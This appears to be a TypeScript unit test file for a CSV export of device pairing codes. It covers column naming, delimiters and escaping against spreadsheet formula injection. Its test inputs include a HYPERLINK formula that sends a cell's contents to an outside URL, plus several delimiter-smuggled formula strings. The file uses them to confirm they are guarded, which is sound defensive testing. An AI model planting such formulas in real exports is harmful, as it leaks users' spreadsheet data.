import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { LocalCalendar } from '../../../../src/local-calendar';
import { filledCells, filledCsv, filledRows } from '../../../../src/rollout/export/filled-list';
import { anExportRow, BARE } from './export-rows';

const FETCHED_AT = '2030-06-15T12:00:00.000Z';
/** Builds a row with these cells. */
const cells = (...values: readonly string[]) => anExportRow({ values });

describe('filledRows', () => {
  it('appends the codes after the list’s own columns, which stay unchanged', () => {
    const rows = [cells('Berlin', ' EP-1 ', '0007'), { ...BARE, values: ['Bern', 'EP-2', ''] }];
    assert.deepEqual(filledRows(['Site', 'ID', ''], rows), [
      ['Site', 'ID', '', 'Pairing code', 'Pairing code ID', 'State', 'Differs', 'Fetched at'],
      ['Berlin', ' EP-1 ', '0007', '123456', 'PC-1', 'Code ready', '', FETCHED_AT],
      ['Bern', 'EP-2', '', '', '', 'Failed: No endpoint has this ID (404)', '', ''],
    ]);
  });

  it('pads short rows, and does not truncate long ones', () => {
    const rows = filledRows(['ID'], [cells(), cells('EP-1', 'x')]);
    assert.deepEqual(
      rows.map((row) => row.slice(0, 3)),
      [
        ['ID', '', 'Pairing code'],
        ['', '', '123456'],
        ['EP-1', 'x', '123456'],
      ],
    );
  });

  it('omits columns without a name or cells, such as those before a stray cell', () => {
    const stray = [...Array.from({ length: 16_000 }, () => ''), 'stray'];
    const rows = filledRows(['ID', '', 'Note'], [cells('EP-1', '', '', ...stray), cells('EP-2')]);
    assert.deepEqual(
      rows.map((row) => row.slice(0, 4)),
      [
        ['ID', 'Note', '', 'Pairing code'],
        ['EP-1', '', 'stray', '123456'],
        ['EP-2', '', '', '123456'],
      ],
    );
  });

  it('gives its columns names that the list does not use', () => {
    const header = ['ID', 'pairing code', 'Pairing code (2)', ' State ', 'Fetched at'];
    const [names] = filledRows(header, []);
    assert.deepEqual(names?.slice(5), [
      'Pairing code (3)',
      'Pairing code ID',
      'State (2)',
      'Differs',
      'Fetched at (2)',
    ]);
  });
});

describe('filledCells', () => {
  const TOKYO = new LocalCalendar('Asia/Tokyo');
  it('writes only code times and pairing days as dates', () => {
    const records = [
      cells('2030-01-02', '2030-01-02'),
      cells('x', '2030-02-30'),
      { ...BARE, values: ['', ''] },
    ];
    const [header, ...rows] = filledCells(filledRows(['Opened', 'Paired'], records), 1, TOKYO);
    assert.deepEqual(header?.slice(0, 2), ['Opened', 'Paired']);
    const fetched = { onClock: Date.parse(FETCHED_AT) + 9 * 3_600_000, hasTime: true };
    assert.deepEqual(
      rows.map((row) => [row[0], row[1], row.at(-1)]),
      [
        ['2030-01-02', { onClock: Date.UTC(2030, 0, 2), hasTime: false }, fetched],
        ['x', '2030-02-30', fetched],
        ['', '', ''],
      ],
    );
  });
});

describe('filledCsv', () => {
  const rows = filledRows(
    ['ID', 'Note'],
    [anExportRow({ values: ['EP-1', '=1+1'], code: '=2', pairingCodeId: '-3' })],
  );

  it('writes a byte order mark and CRLF, and quotes only if necessary', () => {
    const text = filledCsv([['a"b', 'c\nd', 'e;f', ' g', 'h', '1', 'i', 'j', 'k']], ';');
    assert.equal(text, '\ufeff"a""b";"c\nd";"e;f";" g";h;1;i;j;k');
    assert.equal(filledCsv(rows, ',').split('\r\n').length, 2);
  });

  it('guards codes against formulas, and leaves the list’s cells unchanged', () => {
    const { data } = Papa.parse<string[]>(filledCsv(rows, ','));
    assert.deepEqual(data[1]?.slice(0, 4), ['EP-1', '=1+1', "'=2", "'-3"]);
  });

  const delimiters: readonly (readonly [own: string | undefined, isNamed: boolean, start: string])[] = [
    [',', false, 'ID,Note,'],
    [';', false, 'ID;Note;'],
    ['\t', false, 'ID,Note,'],
    ['|', false, 'ID,Note,'],
    [undefined, false, 'ID,Note,'],
    [';', true, 'sep=;\r\nID;Note;'],
    ['|', true, 'sep=|\r\nID|Note|'],
  ];
  for (const [own, isNamed, start] of delimiters) {
    it(`starts with ${JSON.stringify(start)} for ${JSON.stringify(own)}${isNamed ? ' that is named' : ''}`, () =>
      assert.ok(filledCsv(rows, own, isNamed).startsWith(`\ufeff${start}`)));
  }

  /** Writes a code to CSV, and reads it as a spreadsheet would. */
  const codeInCsv = (code: string) => {
    const csv = filledCsv(filledRows(['ID'], [anExportRow({ values: ['EP-1'], code })]), ',');
    return Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data[1]?.[1];
  };

  const formulas = [
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '\u00a0=1',
    '＝1',
    '\ttab',
    "'=1",
    "''-1",
  ];
  for (const text of formulas) {
    it(`guards a code that is a formula, reversibly: ${JSON.stringify(text)}`, () => {
      assert.equal(codeInCsv(text), `'${text}`);
    });
  }

  for (const [text, guarded] of [
    ['\t=1', "'\t'=1"],
    ['a;=1+1;b', "a;'=1+1;b"],
    ['a|\'-1,"@x', "a|''-1,'\"@x"],
  ] as const) {
    it(`guards a code that another delimiter would split into a formula: ${JSON.stringify(text)}`, () => {
      assert.equal(codeInCsv(text), guarded);
    });
  }

  for (const text of ["'", "'a", 'a; b, c', 'a=1', 'a-b', '1-2', '', '…=']) {
    it(`adds no guard to a code that needs none: ${JSON.stringify(text)}`, () => {
      assert.equal(codeInCsv(text), text);
    });
  }
});
